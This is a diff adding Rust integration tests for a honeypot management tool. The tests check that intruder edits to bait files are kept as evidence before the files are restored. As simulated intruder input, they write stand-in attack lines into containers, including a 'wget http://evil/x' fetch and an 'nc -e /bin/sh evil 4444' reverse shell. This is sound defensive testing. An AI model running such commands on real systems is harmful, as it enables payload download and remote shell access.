@@ -96,3 +96,353 @@ fn an_intruders_rm_cannot_write_to_the_operators_terminal() {
     assert!(run.stdout.contains("\\x1b]0;pwned\\x07"), "{run:?}");
     assert_eq!(raw_controls(&run.all()), Vec::<char>::new(), "{run:?}");
 }
+
+const BAIT: &str = concat!(
+    fleet_table!(),
+    ssh_service!(),
+    r#"
+[deckies.{fleet}-a]
+services = ["ssh"]
+
+[deckies.{fleet}-a.files."/home/admin/.bash_history"]
+content = "ls\n"
+
+[deckies.{fleet}-a.files."/root/.aws/credentials"]
+content = "key = Declared-Secret-1\n"
+sensitive = true
+"#
+);
+
+/// Every copy kept under the fleet's evidence directory (sidecars aside).
+fn copies(fleet: &Fleet) -> Vec<std::path::PathBuf> {
+    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
+        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                walk(&p, out);
+            } else if p.extension().is_none_or(|x| x != "json") {
+                out.push(p);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(&fleet.dir.path().join(".deckhand/evidence"), &mut out);
+    out.sort();
+    out
+}
+
+fn sidecar(copy: &std::path::Path) -> serde_json::Value {
+    let json = std::fs::read_to_string(format!("{}.json", copy.display())).unwrap();
+    serde_json::from_str(&json).unwrap()
+}
+
+#[test]
+fn an_intruders_edit_is_kept_before_it_is_undone_and_an_operators_is_not() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let fleet = Fleet::new("evid");
+    fleet.write(BAIT);
+    fleet.apply();
+    // The operator's edit: deckhand wrote what is live, so nothing is kept.
+    fleet.write(&BAIT.replace("content = \"ls\\n\"", "content = \"ls -la\\n\""));
+    fleet.apply();
+    assert_eq!(copies(&fleet), Vec::<std::path::PathBuf>::new());
+
+    let ssh = fleet.n("a-ssh");
+    docker(&["exec", &ssh, "sh", "-c", "echo 'wget http://evil/x' >> /home/admin/.bash_history; echo 'key = Intruder-Secret-2' > /root/.aws/credentials"]);
+    let plan = fleet.plan();
+    assert_eq!(
+        plan.stdout.matches("evidence kept first").count(),
+        2,
+        "{plan:?}"
+    );
+    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(
+        !run.all().contains("Intruder-Secret-2") && !plan.all().contains("Intruder-Secret-2"),
+        "{run:?}"
+    );
+    let kept = copies(&fleet);
+    assert_eq!(kept.len(), 2, "{kept:?}\n{run:?}");
+    let history = kept
+        .iter()
+        .find(|p| {
+            p.to_string_lossy().contains("/local/")
+                && p.to_string_lossy().contains("home/admin/.bash_history/")
+        })
+        .expect("the history's copy");
+    assert_eq!(
+        std::fs::read(history).unwrap(),
+        b"ls -la\nwget http://evil/x\n"
+    );
+    let meta = sidecar(history);
+    assert_eq!(meta["size"], 26, "{meta}");
+    assert_eq!(meta["decky"], fleet.n("a"));
+    assert!(
+        meta["container_id"]
+            .as_str()
+            .is_some_and(|id| id.len() == 64),
+        "{meta}"
+    );
+    for key in ["sha256", "mode", "owner", "mtime", "observed_at"] {
+        assert!(meta.get(key).is_some(), "{key}: {meta}");
+    }
+    let secret = kept
+        .iter()
+        .find(|p| p.to_string_lossy().contains(".aws/credentials"))
+        .unwrap();
+    assert_eq!(
+        std::fs::read(secret).unwrap(),
+        b"key = Intruder-Secret-2\n",
+        "kept on disk, shown nowhere"
+    );
+    assert_eq!(
+        std::fs::metadata(secret).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    let dir = fleet.dir.path().join(".deckhand/evidence");
+    assert_eq!(
+        std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
+        0o700
+    );
+    assert_eq!(
+        common::cat(&ssh, "/home/admin/.bash_history"),
+        b"ls -la\n",
+        "restored after the copy"
+    );
+    fleet.assert_no_changes();
+}
+
+#[test]
+fn a_containers_own_changes_are_kept_before_a_replace_and_a_destroy() {
+    let fleet = Fleet::new("layer");
+    fleet.write(BAIT);
+    fleet.apply();
+    let ssh = fleet.n("a-ssh");
+    docker(&[
+        "exec",
+        &ssh,
+        "sh",
+        "-c",
+        "echo 'nc -e /bin/sh evil 4444' > /tmp/backdoor.sh",
+    ]);
+    fleet.write(&BAIT.replace(
+        "command = [\"sleep\", \"infinity\"]",
+        "command = [\"sleep\", \"99999\"]",
+    ));
+    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 0, "{run:?}");
+    let tars: Vec<_> = copies(&fleet)
+        .into_iter()
+        .filter(|p| p.to_string_lossy().contains("/layer/"))
+        .collect();
+    assert_eq!(tars.len(), 1, "{run:?}");
+    let listed = sidecar(&tars[0]).to_string();
+    assert!(
+        listed.contains("/tmp/backdoor.sh") && !listed.contains(".bash_history"),
+        "deckhand's own files are not evidence: {listed}"
+    );
+    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
+    let names: Vec<String> = archive
+        .entries()
+        .unwrap()
+        .map(|e| e.unwrap().path().unwrap().display().to_string())
+        .collect();
+    assert!(names.contains(&"tmp/backdoor.sh".to_string()), "{names:?}");
+
+    let base = fleet.n("a");
+    docker(&["exec", &base, "sh", "-c", "echo loot > /root/loot.txt"]);
+    let run = fleet.deckhand(&["destroy", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 0, "{run:?}");
+    let base_tar = copies(&fleet)
+        .into_iter()
+        .find(|p| p.to_string_lossy().contains(&format!("/{base}/layer/")));
+    assert!(sidecar(&base_tar.expect("the base's layer"))
+        .to_string()
+        .contains("/root/loot.txt"));
+}
+
+#[test]
+fn evidence_that_cannot_be_kept_fails_the_step_and_leaves_the_file() {
+    let fleet = Fleet::new("evfail");
+    fleet.write(&BAIT.replace(
+        "base_image",
+        "evidence_dir = \"blocker/evidence\"\nbase_image",
+    ));
+    fleet.write_file("blocker", b"a file where the evidence directory would be");
+    fleet.apply();
+    let ssh = fleet.n("a-ssh");
+    docker(&[
+        "exec",
+        &ssh,
+        "sh",
+        "-c",
+        "echo 'id' >> /home/admin/.bash_history",
+    ]);
+    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(run.stdout.contains("evidence could not be kept"), "{run:?}");
+    assert!(
+        !run.stdout.contains("it converges."),
+        "no promise when the cause stays: {run:?}"
+    );
+    assert_eq!(
+        common::cat(&ssh, "/home/admin/.bash_history"),
+        b"ls\nid\n",
+        "the intruder's file is left"
+    );
+}
+
+const THREE: &str = concat!(
+    fleet_table!(),
+    r#"
+[deckies.{fleet}-a]
+services = []
+
+[deckies.{fleet}-a.files."/srv/a/bait"]
+content = "a\n"
+
+[deckies.{fleet}-b]
+services = []
+
+[deckies.{fleet}-b.files."/srv/b/dir/bait"]
+content = "b\n"
+
+[deckies.{fleet}-c]
+services = []
+
+[deckies.{fleet}-c.files."/srv/c"]
+content = "c\n"
+"#
+);
+
+/// In decky a the bait becomes a directory; in decky b a file stands where
+/// the bait's directory was; decky c's bait is edited.
+fn plant(fleet: &Fleet) {
+    docker(&[
+        "exec",
+        &fleet.n("a"),
+        "sh",
+        "-c",
+        "rm /srv/a/bait && mkdir -p /srv/a/bait/loot && echo x > /srv/a/bait/loot/y",
+    ]);
+    docker(&[
+        "exec",
+        &fleet.n("b"),
+        "sh",
+        "-c",
+        "rm -r /srv/b/dir && echo planted > /srv/b/dir",
+    ]);
+    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
+}
+
+fn healed(fleet: &Fleet) -> bool {
+    let cat = |d: &str, p: &str| common::docker_try(&["exec", &fleet.n(d), "cat", p]);
+    cat("a", "/srv/a/bait") == (true, "a\n".into())
+        && cat("b", "/srv/b/dir/bait") == (true, "b\n".into())
+        && cat("c", "/srv/c") == (true, "c\n".into())
+}
+
+#[test]
+fn one_deckys_planted_paths_stop_no_other_and_are_kept_then_cleared() {
+    let fleet = Fleet::new("iso");
+    fleet.write(THREE);
+    fleet.apply();
+    plant(&fleet);
+    let plan = fleet.plan();
+    assert_eq!(plan.code, 0, "{plan:?}");
+    assert!(
+        plan.stdout
+            .contains("a directory is at the path live: removed"),
+        "{plan:?}"
+    );
+    assert!(
+        plan.stdout
+            .contains("stands where a directory belongs: removed"),
+        "{plan:?}"
+    );
+    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(healed(&fleet), "{run:?}");
+    let kept = copies(&fleet);
+    assert!(
+        kept.iter()
+            .any(|p| p.to_string_lossy().contains("srv/a/bait/")),
+        "the planted directory is kept: {kept:?}"
+    );
+    assert!(
+        kept.iter()
+            .any(|p| p.to_string_lossy().contains("srv/b/dir/")),
+        "the planted file is kept: {kept:?}"
+    );
+    fleet.assert_no_changes();
+
+    // The same again under watch: healed at the next interval.
+    let watch = common::watch::Watch::start(&fleet, 1);
+    plant(&fleet);
+    common::watch::within(std::time::Duration::from_secs(20), || healed(&fleet))
+        .unwrap_or_else(|| panic!("watch did not heal:\n{}", watch.output()));
+    let c = fleet.n("c");
+    assert!(
+        watch
+            .output()
+            .contains(&format!("file {c}:/srv/c: updated")),
+        "{}",
+        watch.output()
+    );
+}
+
+#[test]
+fn a_directory_the_image_has_fails_only_its_own_decky() {
+    let fleet = Fleet::new("isoimg");
+    fleet.write(THREE);
+    fleet.apply();
+    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
+    // The operator's mistake: /bin is a directory of the image.
+    fleet.write(&format!(
+        "{THREE}\n[deckies.{{fleet}}-a.files.\"/bin\"]\ncontent = \"oops\"\n"
+    ));
+    let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(
+        run.stdout.contains("deckhand never wrote this file"),
+        "{run:?}"
+    );
+    assert!(
+        healed(&fleet),
+        "the other deckies are still healed: {run:?}"
+    );
+    assert!(
+        common::docker_try(&["exec", &fleet.n("a"), "ls", "/bin/sh"]).0,
+        "nothing was removed"
+    );
+}
+
+#[test]
+fn under_on_drift_report_an_intruders_edit_is_reported_kept_once_and_left() {
+    let fleet = Fleet::new("report");
+    let config = THREE.replace(
+        "base_image = \"{image}\"\n",
+        "base_image = \"{image}\"\non_drift = \"report\"\n",
+    );
+    fleet.write(&config);
+    fleet.apply();
+    docker(&["exec", &fleet.n("c"), "sh", "-c", "echo tampered > /srv/c"]);
+    let plan = fleet.plan();
+    assert!(plan.stdout.contains("drift file"), "{plan:?}");
+    assert!(plan.stdout.contains("left as found"), "{plan:?}");
+    for _ in 0..2 {
+        let run = fleet.deckhand(&["apply", "--auto-approve", "--no-color"]);
+        assert_eq!(run.code, 0, "{run:?}");
+        assert!(run.stdout.contains("drift file"), "{run:?}");
+    }
+    assert_eq!(
+        common::cat(&fleet.n("c"), "/srv/c"),
+        b"tampered\n",
+        "left as the intruder left it"
+    );
+    assert_eq!(copies(&fleet).len(), 1, "kept once: {:?}", copies(&fleet));
+    // The operator's own edit still applies.
+    fleet.write(&config.replace("content = \"a\\n\"", "content = \"a2\\n\""));
+    fleet.apply();
+    assert_eq!(common::cat(&fleet.n("a"), "/srv/a/bait"), b"a2\n");
+}
